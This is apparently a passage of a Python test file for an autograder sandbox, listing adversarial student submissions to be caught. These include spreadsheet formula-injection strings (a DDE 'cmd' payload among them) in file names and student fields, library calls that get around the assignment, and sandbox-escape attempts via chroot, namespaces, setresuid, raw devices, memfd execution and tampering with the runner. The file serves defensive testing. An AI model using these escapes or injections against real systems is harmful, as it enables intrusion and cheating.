    "a generator without end": "iter(int, 1)",
    "the arguments themselves": "x",
}.items():
    send(_name, f"return {_value}")

# ── names ───────────────────────────────────────────────────────────────────

name = _kind("formulas in the table", real=False, goal="outside")
for _formula in ("=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1"):
    name(_formula.strip(), archive=lambda name, notebook, _formula=_formula: _zipped(
        (f"{_formula}_{name[1:]}_assignsubmission_file_/01_rolling_average.ipynb", notebook)))  # fmt: skip

for _formula in ("=1+1", "@SUM(A1)", "\t=1", "\r-1", "x;=1", "x\n+1", "＝1", " =1"):
    for _part in ("first_name", "last_name", "email", "lms_user_id"):
        person = {"first_name": "", "last_name": "", _part: _formula}
        name(f"{_formula!r} as {_part}", place=_folder, person=person)
name(
    "a folder",
    place=lambda folder, root: _folder(folder.parent.parent / "=1+1" / folder.name, root),
)
name("a file for Canvas", archive=lambda name, notebook: _zipped((f"=1+1_{name[1:]}_2002_x.ipynb", notebook)))  # fmt: skip

# ── somebody else's work ────────────────────────────────────────────────────

ready = _kind("ready-made answers")
_LONG = "if len(f) > len(x): raise ValueError('the filter is longer than the series')\n"
for _name, _value in {
    "np.correlate": "np.correlate(x * 1.0, f, 'valid')",
    "np.convolve": "np.convolve(x * 1.0, f[::-1], 'valid')",
    "polynomials": "np.polynomial.polynomial.polymul(x, f[::-1])[len(f) - 1 : len(x)]",
    "polynomials, as objects": "(np.poly1d(x) * np.poly1d(f[::-1])).coeffs[len(f) - 1 : len(x)]",
    "Fourier transforms": "np.fft.irfft(np.fft.rfft(x, 4096) * np.fft.rfft(f[::-1], 4096), 4096)[len(f) - 1 : len(x)]",
    "the C function": "np._core._multiarray_umath.correlate(x * 1.0, f * 1.0, 0)",
    "torch": "__import__('torch').conv1d(*(__import__('torch').tensor(a * 1.0)[None, None] for a in (x, f)))[0, 0].numpy()",
    "a new interpreter": "np.array(__import__('json').loads(__import__('subprocess').check_output([__import__('sys').executable, '-c', "
    "'import sys, json, numpy as np; x, f = json.loads(sys.argv[1]); print(np.correlate(x, f).tolist())', "
    "__import__('json').dumps([x.tolist(), f.tolist()])], env={'PYTHONPATH': ':'.join(sys.path)}))) * 1.0",
    "NumPy loaded afresh": "fresh().correlate(x * 1.0, f, 'valid')",
}.items():
    ready(_name, _LONG + f"return {_value}", """
        import importlib, json, sys
        def fresh():
            for name in ("numpy._core.numeric", "numpy.core.numeric"):
                if name in sys.modules: return importlib.reload(sys.modules[name])
        """)  # fmt: skip

# ── out of the sandbox ──────────────────────────────────────────────────────

leave = _kind("ways out of the sandbox", goal="outside", real=False)
_LIBC = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def mark(): open("@ROOT@/written/@NAME@", "w").close()
"""
leave("a file where everybody may write", "mark()", _LIBC, real=True)
leave(
    "another root",
    "os.mkdir('/tmp/r'); os.chroot('/tmp/r'); [os.chdir('..') for _ in range(20)]; os.chroot('.'); mark()",
    _LIBC,
)
leave(
    "new namespaces",
    "libc.unshare(0x10000000) and 1 / 0; libc.mount(b'/', b'/tmp', b'', 4096, None); mark()",
    _LIBC,
)
leave(
    "namespaces of another process",
    "libc.setns(os.open('/proc/1/ns/mnt', 0), 0) and 1 / 0; mark()",
    _LIBC,
)
leave("root again", "os.setresuid(0, 0, 0); mark()", _LIBC)
leave(
    "a device of its own",
    "os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0)); open('/tmp/disk', 'rb').read(1); mark()",
    _LIBC,
)
leave("a descriptor by handle", "libc.open_by_handle_at(0, 0, 0) and 1 / 0; mark()", _LIBC)
leave(
    "a program made in memory",
    "fd = os.memfd_create('x'); os.write(fd, b'#!/bin/sh'); os.execv(f'/proc/self/fd/{fd}', ['x'])",
    _LIBC,
)
leave("the runner's own files", "open('/runner/runner.py', 'a').write('x'); mark()", _LIBC)
leave("mounting over", "libc.umount2(b'/tmp', 2) and 1 / 0; mark()", _LIBC)
